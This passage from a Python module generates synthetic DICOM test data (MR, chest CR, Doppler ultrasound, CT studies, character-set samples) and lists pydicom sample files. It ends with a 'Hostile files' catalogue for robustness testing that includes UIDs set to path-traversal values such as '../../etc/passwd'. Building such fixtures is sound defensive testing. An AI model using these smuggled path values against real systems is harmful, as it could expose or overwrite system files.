    np.clip(mag, 0.0, 4095.0, out=mag)
    stored = mag.astype(np.uint16)

    step = thickness + gap
    z = -60.0 + index * step
    ds = _base_dataset(ident, series, _sop_uid(series, index), index + 1)
    ds.ImageType = ["ORIGINAL", "PRIMARY", "M", "ND"]
    ds.ScanningSequence = "SE"
    ds.SequenceVariant = "NONE"
    ds.ScanOptions = ""
    ds.MRAcquisitionType = "2D"
    ds.SequenceName = "se2d1"
    ds.SliceThickness = f"{thickness:g}"
    ds.RepetitionTime = "500"
    ds.EchoTime = "15"
    ds.NumberOfAverages = "1"
    ds.ImagingFrequency = "63.8762"
    ds.ImagedNucleus = "1H"
    ds.EchoNumbers = "1"
    ds.MagneticFieldStrength = "1.5"
    ds.SpacingBetweenSlices = f"{step:g}"
    ds.EchoTrainLength = "1"
    ds.FlipAngle = "90"
    ds.PatientPosition = "HFS"
    ds.ImagePositionPatient = [
        f"{-pixel_spacing * (cols - 1) / 2:.4f}",
        f"{-pixel_spacing * (rows - 1) / 2:.4f}",
        f"{z:.4f}",
    ]
    ds.ImageOrientationPatient = [1, 0, 0, 0, 1, 0]
    ds.FrameOfReferenceUID = series.frame_of_reference_uid
    ds.PositionReferenceIndicator = ""
    ds.SliceLocation = f"{z:.4f}"
    ds.PixelSpacing = [f"{pixel_spacing:.6g}", f"{pixel_spacing:.6g}"]
    ds.WindowCenter = "450"
    ds.WindowWidth = "900"
    _set_pixels(ds, stored, photometric="MONOCHROME2", bits_stored=12)
    return ds


def make_mr_series(
    out_dir: str | os.PathLike[str],
    n_slices: int = 20,
    rows: int = 256,
    cols: int = 256,
    seed: int = 0,
    *,
    patient_id: str | None = None,
    patient_name: str | None = None,
    study_uid: str | None = None,
    series_uid: str | None = None,
    study_date: str = "20240102",
    study_time: str = "101500",
    accession: str | None = None,
    charset: Charset = None,
    series_number: int = 1,
    series_description: str = "AX T1 SE",
    study_description: str = "MR HEAD",
    body_part: str = "HEAD",
    slice_thickness: float = 5.0,
    slice_gap: float = 1.0,
    pixel_spacing: float | None = None,
    transfer_syntax: str = ExplicitVRLittleEndian,
    overrides: Mapping[str, Any] | None = None,
) -> list[Path]:
    """Write an axial T1-like MR series of a head phantom (MR Image Storage).

    uint16 with BitsStored 12, Rician noise (sigma 18), slices inferior to superior
    (z = -60 mm + index * (thickness + gap)), 240 mm field of view by default. Identity,
    UIDs, ``charset``, ``overrides`` and file names work as in :func:`make_ct_series`.
    """
    _check_size(rows, cols, n_slices, "n_slices")
    ident = _ident(
        seed,
        patient_id=patient_id,
        patient_name=patient_name,
        study_uid=study_uid,
        study_date=study_date,
        study_time=study_time,
        accession=accession,
        charset=charset,
        study_description=study_description,
    )
    series = _series(
        ident,
        modality="MR",
        sop_class=MRImageStorage,
        series_uid=series_uid,
        series_number=series_number,
        description=series_description,
        body_part=body_part,
    )
    spacing = pixel_spacing or 240.0 / cols
    out = Path(out_dir)
    paths = []
    for i in range(n_slices):
        ds = _mr_instance(
            ident, series, rows, cols, n_slices, i, slice_thickness, slice_gap, spacing
        )
        _apply_overrides(ds, overrides)
        paths.append(_save(ds, out / f"{ds.SOPInstanceUID}.dcm", transfer_syntax))
    return paths


# --------------------------------------------------------------------------------------------
# CR
# --------------------------------------------------------------------------------------------


def _chest_radiograph(rows: int, cols: int, rng: np.random.Generator) -> F32:
    """A PA chest projection, MONOCHROME2 sense (bright = attenuating), 12-bit range."""
    x, y = _grid(rows, cols)
    px = 2.0 / min(rows, cols)
    img = np.full((rows, cols), 160.0, dtype=np.float32)
    tmp = np.empty((rows, cols), dtype=np.float32)
    _blend(img, _shape(x, y, px, 0.0, -1.05, 0.20, 0.45), 1.0, 2100.0, tmp)  # neck
    _blend(img, _shape(x, y, px, 0.0, 0.25, 0.86, 1.05), 1.0, 2200.0, tmp)  # torso
    _blend(img, _shape(x, y, px, -0.36, -0.05, 0.28, 0.62), 1.0, 950.0, tmp)  # right lung
    _blend(img, _shape(x, y, px, 0.36, -0.05, 0.27, 0.60), 1.0, 950.0, tmp)  # left lung
    _blend(img, _shape(x, y, px, 0.10, 0.30, 0.30, 0.28), 1.0, 2550.0, tmp)  # heart
    _blend(img, _shape(x, y, px, 0.0, 0.95, 0.90, 0.35), 1.0, 2400.0, tmp)  # abdomen
    # Spine: a vertical band seen through the mediastinum.
    spine = np.clip((0.075 - np.abs(x)) * (1.0 / (1.5 * px)), 0.0, 1.0) * (y > -0.95)
    img += (spine * 700.0).astype(np.float32)
    # Ribs: curved bands over the thorax; clavicles: two oblique bands near the top.
    thorax = _ellipse(x, y, 0.0, -0.05, 0.78, 0.70) < 1.0
    phase = (y + 0.35 * x * x) * 9.0
    ribs = (np.abs(phase - np.round(phase)) < 0.12) & thorax & (np.abs(x) > 0.07)
    img += np.where(ribs, 420.0, 0.0).astype(np.float32)
    clav = (np.abs(y + 0.72 - 0.25 * np.abs(x)) < 0.025) & (np.abs(x) > 0.05) & (np.abs(x) < 0.6)
    img += np.where(clav, 600.0, 0.0).astype(np.float32)
    img += rng.standard_normal(img.shape, dtype=np.float32) * 25.0
    return img


def make_cr_image(
    out_dir: str | os.PathLike[str],
    rows: int = 2048,
    cols: int = 1664,
    seed: int = 0,
    *,
    photometric: Literal["MONOCHROME1", "MONOCHROME2"] = "MONOCHROME2",
    patient_id: str | None = None,
    patient_name: str | None = None,
    study_uid: str | None = None,
    series_uid: str | None = None,
    study_date: str = "20240102",
    study_time: str = "101500",
    accession: str | None = None,
    charset: Charset = None,
    series_number: int = 1,
    series_description: str = "CHEST PA",
    study_description: str = "XR CHEST",
    pixel_spacing: float = 0.2,
    transfer_syntax: str = ExplicitVRLittleEndian,
    overrides: Mapping[str, Any] | None = None,
) -> Path:
    """Write one Computed Radiography chest PA image and return its path.

    uint16, BitsStored 12. With ``MONOCHROME1`` the stored values are inverted (4095 - v) so
    the displayed image is the same as with ``MONOCHROME2``. Identity, UIDs and ``overrides``
    work as in :func:`make_ct_series`.
    """
    _check_size(rows, cols, 1, "images")
    ident = _ident(
        seed,
        patient_id=patient_id,
        patient_name=patient_name,
        study_uid=study_uid,
        study_date=study_date,
        study_time=study_time,
        accession=accession,
        charset=charset,
        study_description=study_description,
    )
    series = _series(
        ident,
        modality="CR",
        sop_class=ComputedRadiographyImageStorage,
        series_uid=series_uid,
        series_number=series_number,
        description=series_description,
        body_part="CHEST",
    )
    ds = _cr_instance(ident, series, rows, cols, photometric, pixel_spacing)
    _apply_overrides(ds, overrides)
    return _save(ds, Path(out_dir) / f"{ds.SOPInstanceUID}.dcm", transfer_syntax)


def _cr_instance(
    ident: _Ident,
    series: _Series,
    rows: int,
    cols: int,
    photometric: str,
    pixel_spacing: float,
) -> Dataset:
    img = _chest_radiograph(rows, cols, _stream("cr", series.series_uid))
    np.rint(img, out=img)
    np.clip(img, 0.0, 4095.0, out=img)
    if photometric == "MONOCHROME1":
        img = 4095.0 - img
    elif photometric != "MONOCHROME2":
        raise ValueError(f"photometric must be MONOCHROME1 or MONOCHROME2, got {photometric!r}")
    ds = _base_dataset(ident, series, _sop_uid(series, 0), 1)
    ds.KVP = "120"
    ds.ExposureTime = "20"
    ds.XRayTubeCurrent = "250"
    ds.ImagerPixelSpacing = [f"{pixel_spacing:g}", f"{pixel_spacing:g}"]
    ds.PixelSpacing = [f"{pixel_spacing:g}", f"{pixel_spacing:g}"]
    ds.ViewPosition = "PA"
    ds.PatientOrientation = ["L", "F"]
    ds.WindowCenter = "2048"
    ds.WindowWidth = "4096"
    _set_pixels(ds, img.astype(np.uint16), photometric=photometric, bits_stored=12)
    return ds


# --------------------------------------------------------------------------------------------
# US
# --------------------------------------------------------------------------------------------


def _us_frames(rows: int, cols: int, n_frames: int, rng: np.random.Generator) -> npt.NDArray[Any]:
    """Sector B-mode speckle with a pulsing vessel and colour Doppler, (frames, rows, cols, 3)."""
    yy, xx = np.mgrid[0:rows, 0:cols].astype(np.float32)
    apex_x, apex_y = cols / 2.0, rows * 0.04
    dx, dy = xx - apex_x, yy - apex_y
    radius = np.sqrt(dx * dx + dy * dy)
    angle = np.arctan2(dx, dy)
    depth = rows * 0.92
    sector = (np.abs(angle) < 0.62) & (radius > rows * 0.06) & (radius < depth)
    x, y = _grid(rows, cols)
    px = 2.0 / min(rows, cols)
    # Echogenicity: layered tissue, a bright fascia, attenuation with depth.
    tissue = 0.55 + 0.15 * np.sin(radius / rows * 25.0) + 0.25 * (np.abs(y - 0.0) < 0.015)
    tissue *= np.exp(-radius / (rows * 1.6))
    frames = np.zeros((n_frames, rows, cols, 3), dtype=np.uint8)
    doppler_box = (np.abs(x - 0.1) < 0.3) & (np.abs(y - 0.35) < 0.22) & sector
    inner = doppler_box.copy()
    for shift, axis in ((1, 0), (-1, 0), (1, 1), (-1, 1), (2, 0), (-2, 0), (2, 1), (-2, 1)):
        inner &= np.roll(doppler_box, shift, axis=axis)
    box_edge = doppler_box & ~inner
    for f in range(n_frames):
        phase = 2.0 * math.pi * f / max(n_frames, 1)
        vessel = _shape(x, y, px, 0.1, 0.35, 0.18 * (1.0 + 0.08 * math.sin(phase)), 0.10)
        lumen = np.clip((1.0 - vessel.r) * vessel.k, 0.0, 1.0)
        echo = tissue * (1.0 - 0.92 * lumen)
        speckle = rng.rayleigh(0.75, size=(rows, cols)).astype(np.float32)
        gray = np.clip(echo * speckle * 200.0, 0.0, 255.0)
        gray = np.where(sector, gray, 0.0).astype(np.uint8)
        frame = frames[f]
        frame[...] = gray[..., None]
        flow = (lumen > 0.5) & doppler_box
        velocity = math.sin(phase)
        level = np.uint8(90 + int(150 * abs(velocity)))
        channel = 0 if velocity >= 0 else 2  # red towards, blue away from the probe
        frame[flow] = 0
        frame[flow, channel] = level
        frame[box_edge] = (200, 200, 60)  # the Doppler box outline, as scanners draw it
    return frames


def make_us_multiframe(
    out_dir: str | os.PathLike[str],
    n_frames: int = 30,
    rows: int = 480,
    cols: int = 640,
    seed: int = 0,
    *,
    frame_time_ms: float = 33.3,
    patient_id: str | None = None,
    patient_name: str | None = None,
    study_uid: str | None = None,
    series_uid: str | None = None,
    study_date: str = "20240102",
    study_time: str = "101500",
    accession: str | None = None,
    charset: Charset = None,
    series_number: int = 1,
    series_description: str = "CAROTID DOPPLER",
    study_description: str = "US NECK VESSELS",
    transfer_syntax: str = ExplicitVRLittleEndian,
    overrides: Mapping[str, Any] | None = None,
) -> Path:
    """Write one Ultrasound Multi-frame Image (RGB, 8-bit) cine loop and return its path.

    A sector of B-mode speckle with a pulsing vessel and a colour Doppler box; NumberOfFrames,
    FrameTime, FrameIncrementPointer (-> FrameTime), CineRate and a Sequence of Ultrasound
    Regions with the physical calibration. Identity, UIDs and ``overrides`` work as in
    :func:`make_ct_series`. For JPEG baseline use ``transfer_syntax=JPEGBaseline8Bit`` (dcmtk).
    """
    _check_size(rows, cols, n_frames, "n_frames")
    ident = _ident(
        seed,
        patient_id=patient_id,
        patient_name=patient_name,
        study_uid=study_uid,
        study_date=study_date,
        study_time=study_time,
        accession=accession,
        charset=charset,
        study_description=study_description,
    )
    series = _series(
        ident,
        modality="US",
        sop_class=UltrasoundMultiFrameImageStorage,
        series_uid=series_uid,
        series_number=series_number,
        description=series_description,
        body_part="NECK",
    )
    ds = _us_instance(ident, series, rows, cols, n_frames, frame_time_ms)
    _apply_overrides(ds, overrides)
    return _save(ds, Path(out_dir) / f"{ds.SOPInstanceUID}.dcm", transfer_syntax)


def _us_instance(
    ident: _Ident, series: _Series, rows: int, cols: int, n_frames: int, frame_time_ms: float
) -> Dataset:
    frames = _us_frames(rows, cols, n_frames, _stream("us", series.series_uid))
    ds = _base_dataset(ident, series, _sop_uid(series, 0), 1)
    ds.ImageType = ["ORIGINAL", "PRIMARY", "VASCULAR", "0011"]
    ds.FrameTime = f"{frame_time_ms:g}"
    ds.FrameIncrementPointer = Tag("FrameTime")
    ds.CineRate = str(round(1000.0 / frame_time_ms))
    ds.RecommendedDisplayFrameRate = str(round(1000.0 / frame_time_ms))
    ds.TransducerData = ["L12-5", "", ""]
    ds.ProcessingFunction = "VASCULAR"
    ds.BurnedInAnnotation = "NO"
    ds.LossyImageCompression = "00"
    cm_per_px = 4.0 / rows
    region = Dataset()
    region.RegionSpatialFormat = 1
    region.RegionDataType = 1
    region.RegionFlags = 0
    region.RegionLocationMinX0 = 0
    region.RegionLocationMinY0 = 0
    region.RegionLocationMaxX1 = cols - 1
    region.RegionLocationMaxY1 = rows - 1
    region.PhysicalUnitsXDirection = 3
    region.PhysicalUnitsYDirection = 3
    region.PhysicalDeltaX = cm_per_px
    region.PhysicalDeltaY = cm_per_px
    ds.SequenceOfUltrasoundRegions = DicomSequence([region])
    _set_pixels(ds, frames, photometric="RGB", bits_stored=8, frames=n_frames)
    return ds


# --------------------------------------------------------------------------------------------
# Studies and in-memory datasets
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class GeneratedSeries:
    """A series written by :func:`make_study`."""

    series_uid: str
    modality: str
    series_number: int
    files: list[Path]


@dataclass(frozen=True)
class GeneratedStudy:
    """A study written by :func:`make_study`."""

    study_uid: str
    patient_id: str
    patient_name: str
    accession: str
    series: list[GeneratedSeries] = field(default_factory=list)

    @property
    def files(self) -> list[Path]:
        """All files of all series, series by series in series order."""
        return [p for s in self.series for p in s.files]


def make_study(
    out_dir: str | os.PathLike[str],
    seed: int = 0,
    *,
    n_slices: int = 20,
    rows: int = 512,
    cols: int = 512,
    patient_id: str | None = None,
    patient_name: str | None = None,
    study_uid: str | None = None,
    study_date: str = "20240102",
    study_time: str = "101500",
    accession: str | None = None,
    charset: Charset = None,
    with_cr: bool = False,
    transfer_syntax: str = ExplicitVRLittleEndian,
) -> GeneratedStudy:
    """Write a chest CT study with two (or three) series and describe it.

    Series 1: ``n_slices`` axial 1.25 mm slices, STANDARD kernel. Series 2: the same volume
    reconstructed at 5 mm with the LUNG kernel (``max(1, n_slices // 4)`` slices, same Frame
    of Reference). With ``with_cr``, series 3 is a chest PA CR (``rows`` x ``cols``), so the
    study has ModalitiesInStudy CT\\CR. Everything else works as in :func:`make_ct_series`.
    """
    ident = _ident(
        seed,
        patient_id=patient_id,
        patient_name=patient_name,
        study_uid=study_uid,
        study_date=study_date,
        study_time=study_time,
        accession=accession,
        charset=charset,
        study_description="CT THORAX",
    )
    common: dict[str, Any] = {
        "seed": seed,
        "patient_id": ident.patient_id,
        "patient_name": ident.patient_name,
        "study_uid": ident.study_uid,
        "study_date": study_date,
        "study_time": study_time,
        "accession": ident.accession,
        "charset": charset,
        "transfer_syntax": transfer_syntax,
    }
    thin = make_ct_series(out_dir, n_slices, rows, cols, series_number=1, **common)
    thick = make_ct_series(
        out_dir,
        max(1, n_slices // 4),
        rows,
        cols,
        series_number=2,
        series_description="Thorax 5mm LUNG",
        slice_thickness=5.0,
        kernel="LUNG",
        noise_hu=25.0,
        **common,
    )
    series = [
        GeneratedSeries(_series_uid_of(thin[0]), "CT", 1, thin),
        GeneratedSeries(_series_uid_of(thick[0]), "CT", 2, thick),
    ]
    if with_cr:
        cr = make_cr_image(
            out_dir,
            rows,
            cols,
            series_number=3,
            study_description="CT THORAX",
            **common,
        )
        series.append(GeneratedSeries(_series_uid_of(cr), "CR", 3, [cr]))
    return GeneratedStudy(
        study_uid=ident.study_uid,
        patient_id=ident.patient_id,
        patient_name=ident.patient_name,
        accession=ident.accession,
        series=series,
    )


def _series_uid_of(path: Path) -> str:
    ds = dcmread(path, stop_before_pixels=True, specific_tags=["SeriesInstanceUID"])
    return str(ds.SeriesInstanceUID)


def make_dataset(
    modality: Modality = "CT",
    seed: int = 0,
    *,
    rows: int = 64,
    cols: int = 64,
    index: int = 0,
    n_slices: int = 20,
    n_frames: int = 4,
    patient_id: str | None = None,
    patient_name: str | None = None,
    study_uid: str | None = None,
    series_uid: str | None = None,
    study_date: str = "20240102",
    study_time: str = "101500",
    accession: str | None = None,
    charset: Charset = None,
    series_number: int = 1,
    photometric: Literal["MONOCHROME1", "MONOCHROME2"] = "MONOCHROME2",
    overrides: Mapping[str, Any] | None = None,
) -> Dataset:
    """Return one generated instance in memory, with file meta (Explicit VR Little Endian).

    It is the same instance the series generators would write for the same arguments:
    ``make_dataset("CT", seed, index=i, rows=r, cols=c, n_slices=n)`` equals slice ``i`` of
    ``make_ct_series(dir, n, r, c, seed)``. ``modality`` is ``CT``, ``MR``, ``CR`` (uses
    ``photometric``) or ``US`` (multi-frame RGB with ``n_frames``). Ready for
    ``dcmwrite(path, ds, enforce_file_format=True)`` or a pynetdicom ``send_c_store``.
    """
    defaults = {
        "CT": ("CT THORAX", "Thorax 1.25mm STANDARD"),
        "MR": ("MR HEAD", "AX T1 SE"),
        "CR": ("XR CHEST", "CHEST PA"),
        "US": ("US NECK VESSELS", "CAROTID DOPPLER"),
    }
    if modality not in defaults:
        raise ValueError(f"modality must be one of {sorted(defaults)}, got {modality!r}")
    study_description, series_description = defaults[modality]
    ident = _ident(
        seed,
        patient_id=patient_id,
        patient_name=patient_name,
        study_uid=study_uid,
        study_date=study_date,
        study_time=study_time,
        accession=accession,
        charset=charset,
        study_description=study_description,
    )
    sop_class, body_part = {
        "CT": (CTImageStorage, "CHEST"),
        "MR": (MRImageStorage, "HEAD"),
        "CR": (ComputedRadiographyImageStorage, "CHEST"),
        "US": (UltrasoundMultiFrameImageStorage, "NECK"),
    }[modality]
    series = _series(
        ident,
        modality=modality,
        sop_class=sop_class,
        series_uid=series_uid,
        series_number=series_number,
        description=series_description,
        body_part=body_part,
    )
    if modality == "CT":
        _check_size(rows, cols, n_slices, "n_slices")
        geo = _CTGeometry(rows, cols, n_slices, 360.0 / cols, 1.25, "STANDARD", 12.0, 0.0)
        ds = _ct_instance(ident, series, geo, index)
    elif modality == "MR":
        _check_size(rows, cols, n_slices, "n_slices")
        ds = _mr_instance(ident, series, rows, cols, n_slices, index, 5.0, 1.0, 240.0 / cols)
    elif modality == "CR":
        _check_size(rows, cols, 1, "images")
        ds = _cr_instance(ident, series, rows, cols, photometric, 0.2)
    else:
        _check_size(rows, cols, n_frames, "n_frames")
        ds = _us_instance(ident, series, rows, cols, n_frames, 33.3)
    _apply_overrides(ds, overrides)
    ds.file_meta = _file_meta(ds, ExplicitVRLittleEndian)
    return ds


# --------------------------------------------------------------------------------------------
# Character sets
# --------------------------------------------------------------------------------------------


class CharsetSample(NamedTuple):
    """One Specific Character Set sample: PatientName bytes as the standard gives them."""

    key: str
    charset: tuple[str, ...]
    encoded: bytes
    expected: str
    source: str


#: PatientName samples: the examples of PS3.5 (Annex H Japanese, I Korean, J UTF-8 and GB18030,
#: K GB2312) and the single-byte sets of pydicom's charset test files. ``expected`` is the
#: decoded Unicode without trailing empty component groups: the bytes of the Annex J examples
#: end in ``=`` (an empty phonetic group), which PS3.5 6.2.1 lets a reader drop and pydicom does.
CHARSET_SAMPLES: tuple[CharsetSample, ...] = (
    CharsetSample(
        "iso_ir_100_french",
        ("ISO_IR 100",),
        b"Buc^J\xe9r\xf4me",
        "Buc^Jérôme",
        "pydicom chrFren.dcm",
    ),
    CharsetSample(
        "iso_ir_100_german",
        ("ISO_IR 100",),
        b"\xc4neas^R\xfcdiger",
        "Äneas^Rüdiger",
        "pydicom chrGerm.dcm",
    ),
    CharsetSample(
        "iso_ir_192_utf8",
        ("ISO_IR 192",),
        b"Wang^XiaoDong=\xe7\x8e\x8b^\xe5\xb0\x8f\xe6\x9d\xb1=",
        "Wang^XiaoDong=王^小東",
        "PS3.5 J.1, pydicom chrX1.dcm",
    ),
    CharsetSample(
        "iso_2022_ir_87_japanese",
        ("", "ISO 2022 IR 87"),
        b"Yamada^Tarou=\x1b$B;3ED\x1b(B^\x1b$BB@O:\x1b(B=\x1b$B$d$^$@\x1b(B^\x1b$B$?$m$&\x1b(B",
        "Yamada^Tarou=山田^太郎=やまだ^たろう",
        "PS3.5 H.3.1, pydicom chrH31.dcm",
    ),
    CharsetSample(
        "iso_2022_ir_13_ir_87_japanese",
        ("ISO 2022 IR 13", "ISO 2022 IR 87"),
        b"\xd4\xcf\xc0\xde^\xc0\xdb\xb3=\x1b$B;3ED\x1b(J^\x1b$BB@O:\x1b(J="
        b"\x1b$B$d$^$@\x1b(J^\x1b$B$?$m$&\x1b(J",
        "ﾔﾏﾀﾞ^ﾀﾛｳ=山田^太郎=やまだ^たろう",
        "PS3.5 H.3.2, pydicom chrH32.dcm",
    ),
    CharsetSample(
        "iso_2022_ir_149_korean",
        ("", "ISO 2022 IR 149"),
        b"Hong^Gildong=\x1b$)C\xfb\xf3^\x1b$)C\xd1\xce\xd4\xd7=\x1b$)C\xc8\xab^\x1b$)C\xb1\xe6\xb5\xbf",
        "Hong^Gildong=洪^吉洞=홍^길동",
        "PS3.5 I.2, pydicom chrI2.dcm",
    ),
    CharsetSample(
        "gb18030_chinese",
        ("GB18030",),
        b"Wang^XiaoDong=\xcd\xf5^\xd0\xa1\xb6\xab=",
        "Wang^XiaoDong=王^小东",
        "PS3.5 J.2, pydicom chrX2.dcm",
    ),
    CharsetSample(
        "iso_ir_144_cyrillic",
        ("ISO_IR 144",),
        b"\xbb\xee\xdace\xdc\xd1yp\xd3",
        "Люкceмбypг",
        "pydicom chrRuss.dcm",
    ),
    CharsetSample(
        "iso_ir_126_greek",
        ("ISO_IR 126",),
        b"\xc4\xe9\xef\xed\xf5\xf3\xe9\xef\xf2",
        "Διονυσιος",
        "pydicom chrGreek.dcm",
    ),
    CharsetSample(
        "iso_ir_127_arabic",
        ("ISO_IR 127",),
        b"\xe2\xc8\xc7\xe6\xea^\xe4\xe6\xd2\xc7\xd1",
        "قباني^لنزار",
        "pydicom chrArab.dcm",
    ),
    CharsetSample(
        "iso_ir_138_hebrew",
        ("ISO_IR 138",),
        b"\xf9\xf8\xe5\xef^\xe3\xe1\xe5\xf8\xe4",
        "שרון^דבורה",
        "pydicom chrHbrw.dcm",
    ),
)


def make_charset_samples(
    out_dir: str | os.PathLike[str], seed: int = 0
) -> list[tuple[Path, str]]:
    """Write one small CT instance per :data:`CHARSET_SAMPLES` entry.

    Each file has its own patient (PatientID ``CHARSET-<key>``), study and series, the
    sample's Specific Character Set, and PatientName holding exactly the sample's bytes (so
    the on-disk encoding is the standard's, not pydicom's). Files are named ``<key>.dcm``.
    Returns ``(path, expected_unicode_name)`` pairs, in :data:`CHARSET_SAMPLES` order.
    """
    out = Path(out_dir)
    result: list[tuple[Path, str]] = []
    for n, sample in enumerate(CHARSET_SAMPLES):
        ds = make_dataset(
            "CT",
            seed,
            rows=32,
            cols=32,
            patient_id=f"CHARSET-{sample.key}"[:64],
            accession=f"CS{seed:04d}{n:02d}",
            charset=list(sample.charset),
        )
        ds.PatientName = sample.encoded
        result.append((_save(ds, out / f"{sample.key}.dcm"), sample.expected))
    return result


def _pydicom_data_root() -> Path:
    import pydicom.data

    return Path(pydicom.data.__file__).resolve().parent


def charset_test_files(storable_only: bool = False) -> list[Path]:
    """Return pydicom's own Specific Character Set test files (``charset_files/chr*.dcm``).

    These ship in pydicom's wheel (never downloaded): chrArab, chrFren, chrFrenMulti, chrGerm,
    chrGreek, chrH31, chrH32, chrHbrw, chrI2, chrJapMulti, chrJapMultiExplicitIR6,
    chrKoreanMulti, chrRuss, chrSQEncoding, chrSQEncoding1, chrX1, chrX2. Several share a SOP
    Instance UID (chrFren/chrFrenMulti, chrJapMulti/chrJapMultiExplicitIR6). chrSQEncoding*.dcm
    are minimal data sets without UIDs; ``storable_only`` leaves them out.
    """
    files = sorted((_pydicom_data_root() / "charset_files").glob("chr*.dcm"))
    if storable_only:
        files = [p for p in files if _has_uids(p)]
    return files


# --------------------------------------------------------------------------------------------
# Real sample files
# --------------------------------------------------------------------------------------------


class SampleFile(NamedTuple):
    """A real DICOM file from pydicom's wheel or pydicom-data."""

    name: str
    path: Path
    transfer_syntax: UID
    sop_class_uid: UID
    sop_instance_uid: str
    modality: str
    note: str


#: Curated real files (name, note). Only these names are ever looked up, never with download:
#: names that pydicom would fetch from the internet (HTJ2K*, JLSL_*, JLSN_*...) are not here.
_CURATED: tuple[tuple[str, str], ...] = (
    ("CT_small.dcm", "CT 128x128 int16"),
    ("MR_small.dcm", "MR 64x64"),
    ("MR_small_implicit.dcm", "MR_small, implicit VR"),
    ("MR_small_bigendian.dcm", "MR_small, explicit VR big endian"),
    ("MR_small_RLE.dcm", "MR_small, RLE"),
    ("MR_small_jp2klossless.dcm", "MR_small, JPEG 2000 lossless"),
    ("MR_small_jpeg_ls_lossless.dcm", "MR_small, JPEG-LS lossless"),
    ("JPGExtended.dcm", "NM 12-bit JPEG extended"),
    ("JPEG2000.dcm", "NM JPEG 2000 (lossy TS)"),
    ("SC_rgb_jpeg_dcmtk.dcm", "RGB JPEG baseline"),
    ("SC_rgb_jpeg_gdcm.dcm", "RGB JPEG lossless SV1"),
    ("SC_rgb_rle.dcm", "RGB RLE"),
    ("examples_ybr_color.dcm", "US multi-frame, 30 frames JPEG baseline YBR"),
    ("examples_jpeg2k.dcm", "US RGB JPEG 2000 lossless"),
    ("examples_rgb_color.dcm", "US RGB uncompressed"),
    ("examples_palette.dcm", "US palette colour"),
    ("image_dfl.dcm", "Deflated explicit VR little endian"),
    ("ExplVR_BigEnd.dcm", "US RGB explicit VR big endian"),
    ("693_J2KI.dcm", "CT 512x512 JPEG 2000 lossy"),
    ("rtdose.dcm", "RT Dose multi-frame, implicit VR"),
    ("rtplan.dcm", "RT Plan, no pixels"),
    ("test-SR.dcm", "Comprehensive SR, no pixels"),
    ("reportsi.dcm", "Basic Text SR, no pixels"),
    ("waveform_ecg.dcm", "12-lead ECG waveform"),
    ("liver_1frame.dcm", "SEG, one frame"),
    # pydicom-data
    ("693_UNCR.dcm", "CT 512x512"),
    ("693_J2KR.dcm", "CT 512x512 JPEG 2000 lossless"),
    ("RG1_UNCR.dcm", "CR 1955x1841"),
    ("RG1_J2KR.dcm", "CR 1955x1841 JPEG 2000 lossless"),
    ("RG3_UNCR.dcm", "CR 1760x1760"),
    ("RG3_J2KR.dcm", "CR 1760x1760 JPEG 2000 lossless"),
    ("MR2_UNCR.dcm", "MR 1024x1024"),
    ("MR2_J2KR.dcm", "MR 1024x1024 JPEG 2000 lossless"),
    ("US1_UNCR.dcm", "US RGB 480x640"),
    ("US1_J2KR.dcm", "US RGB 480x640 JPEG 2000 lossless"),
    ("JPEG-LL.dcm", "NM JPEG lossless SV1"),
    ("JPGLosslessP14SV1_1s_1f_8b.dcm", "US 8-bit JPEG lossless SV1"),
    ("color3d_jpeg_baseline.dcm", "US multi-frame, 120 frames 480x640 JPEG baseline"),
    ("emri_small.dcm", "Enhanced MR, 10 frames"),
    ("emri_small_RLE.dcm", "Enhanced MR, RLE"),
    ("emri_small_jpeg_2k_lossless.dcm", "Enhanced MR, JPEG 2000 lossless"),
    ("emri_small_jpeg_ls_lossless.dcm", "Enhanced MR, JPEG-LS lossless"),
    ("eCT_Supplemental.dcm", "Enhanced CT, 2 frames"),
    ("liver.dcm", "SEG, 3 frames"),
    ("OBXXXX1A_rle.dcm", "US 600x800 RLE"),
)


def _has_uids(path: Path) -> bool:
    try:
        ds = dcmread(
            path,
            stop_before_pixels=True,
            specific_tags=["SOPInstanceUID", "StudyInstanceUID", "SeriesInstanceUID"],
        )
    except Exception:
        return False
    keys = ("SOPInstanceUID", "StudyInstanceUID", "SeriesInstanceUID")
    return all(str(ds.get(k, "")).strip() for k in keys)


def pydicom_test_file(name: str) -> Path:
    """Return the local path of a pydicom / pydicom-data test file; never downloads.

    Raises:
        FileNotFoundError: the file is not installed locally.
    """
    found = get_testdata_file(name, download=False)
    if not isinstance(found, str):
        raise FileNotFoundError(f"{name} is not in pydicom's or pydicom-data's local files")
    return Path(found)


@functools.lru_cache(maxsize=2)
def pydicom_test_files(unique: bool = False) -> tuple[SampleFile, ...]:
    """Return the curated real files that exist locally and are storable instances.

    Each was read with :func:`pydicom.dcmread` and has a file meta TransferSyntaxUID and
    non-empty SOP Instance, Study Instance and Series Instance UIDs; others are dropped. All
    that have pixels decode with the project's plugins. Beware: variants of one image share a
    SOP Instance UID (``MR_small*``, ``693_*``, ``emri_small*``, ``liver*`` and more), so an
    archive sees them as re-sends of one instance; ``unique`` keeps only the first file of
    each SOP Instance UID (in the catalogue's order, uncompressed variants first).
    """
    out: list[SampleFile] = []
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, note in _CURATED:
            try:
                path = pydicom_test_file(name)
                ds = dcmread(path, stop_before_pixels=True)
            except Exception:
                continue
            meta = getattr(ds, "file_meta", None)
            ts = meta.get("TransferSyntaxUID") if meta is not None else None
            keys = ("SOPInstanceUID", "StudyInstanceUID", "SeriesInstanceUID")
            uids = [str(ds.get(k, "")).strip() for k in keys]
            if ts is None or not all(uids):
                continue
            if unique and any(f.sop_instance_uid == uids[0] for f in out):
                continue
            out.append(
                SampleFile(
                    name=name,
                    path=path,
                    transfer_syntax=UID(ts),
                    sop_class_uid=UID(ds.get("SOPClassUID", "")),
                    sop_instance_uid=uids[0],
                    modality=str(ds.get("Modality", "")),
                    note=note,
                )
            )
    return tuple(out)


# --------------------------------------------------------------------------------------------
# Hostile files
# --------------------------------------------------------------------------------------------


#: What each :func:`hostile_files` entry is.
HOSTILE_DESCRIPTIONS: dict[str, str] = {
    "not_dicom": "random bytes and text, no preamble, no DICM",
    "empty_file": "zero bytes",
    "truncated_in_meta": "valid CT file cut inside the File Meta Information",
    "truncated_in_header": "valid CT file cut inside the PatientName value",
    "truncated_in_pixel_data": "valid CT file cut half-way through Pixel Data",
    "uid_path_traversal": "SOPInstanceUID (and MediaStorageSOPInstanceUID) '../../etc/passwd'",
    "uids_path_traversal_all": "Study, Series and SOP Instance UIDs are '../' paths",
